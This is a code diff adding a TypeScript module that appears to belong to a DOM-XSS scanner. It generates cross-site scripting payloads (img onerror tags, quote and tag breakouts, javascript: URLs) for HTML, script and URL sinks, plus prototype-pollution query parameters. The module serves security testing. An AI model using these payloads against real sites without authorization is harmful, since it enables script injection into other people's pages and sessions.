@@ -1,0 +1,58 @@
+import type { SinkKind } from './page-messages.ts';
+
+/** A marked string at a sink. */
+export interface SinkHit {
+  readonly sinkKind: SinkKind;
+  readonly sink: string;
+  /** Text around the mark, and where the mark begins in it. */
+  readonly text: string;
+  readonly at: number;
+}
+
+const PAYLOADS_MAX = 9;
+
+/**
+ * Strings that call a function if the sinks execute them, likeliest first.
+ * @param call for example `p(1)`
+ */
+export function payloadsFor(hits: readonly SinkHit[], call: string): string[] {
+  const kinds = new Set(hits.map(({ sinkKind }) => sinkKind));
+  const found = new Set<string>();
+  const add = (...payloads: readonly string[]) => {
+    for (const payload of payloads) found.add(payload);
+  };
+  if (kinds.has('html'))
+    add(
+      `<img src=x onerror=${call}>`,
+      `"><img src=x onerror=${call}>`,
+      `'><img src=x onerror=${call}>`,
+      `"'></script></title></textarea></style><img/src=x/onerror=${call}>`,
+      `--><img src=x onerror=${call}>`,
+    );
+  for (const hit of hits.filter(({ sinkKind }) => sinkKind === 'script')) add(...scriptPayloads(hit, call));
+  if (kinds.has('url')) add(`javascript:${call}`, `data:text/javascript,${call}`);
+  return [...found].slice(0, PAYLOADS_MAX);
+}
+
+/** Parameters that give a property to every object, where a parser copies names without a check. */
+export function pollutingPairs(name: string): string {
+  return `__proto__[${name}]=${name}&__proto__.${name}=${name}&constructor[prototype][${name}]=${name}`;
+}
+
+function scriptPayloads({ text, at }: SinkHit, call: string): string[] {
+  const quote = openQuote(text.slice(0, at));
+  const inQuotes = quote === '' ? [] : [`${quote};${call}//`, `${quote}-${call}-${quote}`, `${quote});${call}//`];
+  return [...inQuotes, call, `';${call}//`, `";${call}//`, `);${call}//`, `\n${call}//`];
+}
+
+/** The quotation mark of the string that the end of a script is in, or empty. */
+function openQuote(script: string): string {
+  let open = '';
+  for (let index = 0; index < script.length; index += 1) {
+    const character = script[index] ?? '';
+    if (character === '\\') index += 1;
+    else if (open === '') open = /["'`]/.test(character) ? character : '';
+    else if (character === open) open = '';
+  }
+  return open;
+}
